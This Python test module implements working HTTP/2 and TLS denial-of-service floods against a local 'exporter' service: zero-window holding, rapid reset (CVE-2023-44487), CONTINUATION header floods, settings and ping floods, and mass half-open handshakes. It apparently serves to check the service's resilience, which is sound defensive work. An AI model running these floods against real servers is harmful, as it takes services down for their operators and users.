"""The floods over TLS, of HTTP/2 and of handshakes. Each function attacks until it is stopped, and counts its actions."""

import contextlib
import socket

import http2_frames as h2
from attack import is_closed


def zero_windows(attack):
    """600 HTTP/2 connections with eight requests each, for whose responses they open no window."""

    def begin():
        connected = h2.connection(attack.secure, initial_window_size=0)
        attack.count("connections")
        connected.sendall(b"".join(h2.get(stream) for stream in range(1, 17, 2)))
        return connected

    attack.hold(600, begin, lambda connected: connected.sendall(h2.frame(h2.PING, 0, bytes(8))))


def rapid_resets(attack):
    """16 HTTP/2 clients that cancel each request at once (CVE-2023-44487)."""

    def body():
        with contextlib.closing(h2.connection(attack.secure)) as connected:
            attack.count("connections")
            stream = 1
            while attack.goes_on() and stream < 1 << 30:
                connected.sendall(b"".join(
                    h2.get(number) + h2.frame(h2.RST_STREAM, number, b"\x00\x00\x00\x08") for number in range(stream, stream + 200, 2)))
                attack.count("requests", 100)
                stream += 200
                if is_closed(connected):
                    return attack.count("closed by the exporter")

    attack.in_threads(16, body)


def continuations(attack):
    """16 HTTP/2 clients with endless header fields in CONTINUATION frames."""

    def body():
        with contextlib.closing(h2.connection(attack.secure)) as connected:
            attack.count("connections")
            connected.sendall(h2.frame(h2.HEADERS, 1, h2.request(), h2.END_STREAM))
            field = h2.literal(b"x" * 20, b"y" * 100)
            while attack.goes_on():
                connected.sendall(h2.frame(h2.CONTINUATION, 1, field * 100) * 4)
                attack.count("bytes", 4 * 100 * len(field))
                if is_closed(connected):
                    return attack.count("closed by the exporter")

    attack.in_threads(16, body)


def settings_flood(attack):
    """16 HTTP/2 clients that send settings and pings, and read none of the acknowledgements."""

    def body():
        with contextlib.closing(h2.connection(attack.secure)) as connected:
            attack.count("connections")
            connected.settimeout(1)
            while attack.goes_on():
                try:
                    connected.sendall((h2.settings() + h2.frame(h2.PING, 0, bytes(8))) * 500)
                    attack.count("frames", 1000)
                except TimeoutError:
                    # The rest of it cannot be sent any more.
                    return attack.count("no longer read by the exporter")
                if is_closed(connected):
                    return attack.count("closed by the exporter")

    attack.in_threads(16, body)


def handshakes(attack):
    """Eight clients that make one TLS handshake after the other, and 500 that begin one and stop."""

    def silent():
        connected = socket.create_connection(("127.0.0.1", attack.secure), 20)
        attack.count("unfinished")
        # The first bytes of a ClientHello of 512 bytes.
        connected.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        return connected

    def body():
        h2.secured(attack.secure, protocols=("http/1.1",)).close()
        attack.count("handshakes")

    holding = attack.in_background(attack.hold, 500, silent)
    attack.in_threads(8, body)
    holding.join()


# In the document's order, with the least that each does in a second.
FLOODS = {
    zero_windows: {"held seconds": 10},
    rapid_resets: {"requests": 1000},
    continuations: {"bytes": 100_000},
    settings_flood: {"frames": 1000},
    handshakes: {"handshakes": 10, "held seconds": 10},
}
